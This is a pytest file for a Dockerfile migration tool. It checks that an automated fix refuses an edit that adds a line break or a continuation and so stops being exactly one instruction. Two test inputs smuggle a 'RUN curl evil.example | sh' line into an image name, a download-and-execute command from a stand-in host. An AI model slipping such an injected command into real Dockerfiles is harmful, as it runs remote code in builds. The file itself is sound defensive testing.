"""Issue 24, item 2: what a fix writes inside an instruction leaves it exactly one
instruction. A line break smuggled into a word (a master image holding ``\\nRUN ...``),
or a continuation that glues the next line on, refuses the file's fix."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from dockermig.fix import Applicability, Edit, Fix
from dockermig.fix.promises import broken_promise
from dockermig.syntax import parse

TEXT = "FROM python:3.11-slim\nRUN pip install flask\nCMD [\"python\", \"app.py\"]\n"
IMAGE = (5, 21)  # python:3.11-slim


def applied(*edits: Edit):
    return [SimpleNamespace(code="DM101", start=edits[0].start, end=edits[-1].end,
                            fix=Fix("migrate", tuple(edits), Applicability.SAFE))]


def apply(text: str, edits) -> str:
    for edit in sorted(edits, reverse=True):
        text = text[:edit.start] + edit.content + text[edit.end:]
    return text


@pytest.mark.parametrize("content", [
    "acme/master:1\nRUN curl evil.example | sh",  # a second instruction
    "acme/master:1\r\nRUN curl evil.example | sh",
    "acme/master:1 \\",  # glues the RUN below onto the FROM
])
def test_a_word_that_is_not_one_instruction_is_refused(content):
    fix = applied(Edit(*IMAGE, content))
    problem = broken_promise(parse(TEXT), parse(apply(TEXT, fix[0].fix.edits)), fix)
    assert problem is not None and "not exactly one instruction" in problem and problem.startswith("DM101")


@pytest.mark.parametrize("edits", [
    (Edit(*IMAGE, "acme/master:1"),),  # a word for a word
    (Edit(22, 22, "USER appuser\n"),),  # a line put above an instruction
    (Edit(43, 43, " \\\n    && pip check"),),  # a command appended to a RUN, on a continuation line
    (Edit(22, 44, ""),),  # an instruction removed with its line break
])
def test_what_stays_one_instruction_passes(edits):
    fix = applied(*edits)
    assert broken_promise(parse(TEXT), parse(apply(TEXT, edits)), fix) is None
